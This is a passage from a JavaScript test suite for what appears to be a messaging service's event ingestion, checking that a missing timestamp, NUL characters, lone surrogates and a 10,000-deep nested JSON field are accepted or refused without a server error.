        const event = messageReceived({ id: Number(fixtures.openContact) }, { messageId: 990_002, text: 'hello', timestamp: 1_000_000_000_000 });
        await applied(event.event_id, JSON.stringify(event));
        const message = await waitUntil(
          'the message in the transcript',
          async () => (await transcript(h.db, fixtures.openContact)).find((m) => m.messageId === '990002'),
          5_000,
        );
        assert.equal(message.platformTimestamp, null);
      },
    );

    it(
      'takes an event whose text holds a NUL (a contact can type one) without a 5xx',
      async () => {
        const event = messageReceived({ id: 7_950_000_003 }, { messageId: 990_003, text: 'hello\u0000' });
        await takenOrRefused(event.event_id, JSON.stringify(event));
      },
    );

    it('takes an event with a lone surrogate escape without a 5xx', async () => {
      const event = conversationOpened({ id: 7_950_000_004, firstName: 'Ana\ud800' });
      await takenOrRefused(event.event_id, JSON.stringify(event));
    });

    it('takes, or refuses with a 4xx, an event with an unknown field nested 10,000 deep', async () => {
      const event = conversationOpened({ id: 7_950_000_005 });
      const depth = 10_000;
      await takenOrRefused(event.event_id, JSON.stringify(event).replace(/}$/, `,"extra":${'['.repeat(depth)}${']'.repeat(depth)}}`));
    });
  });
});
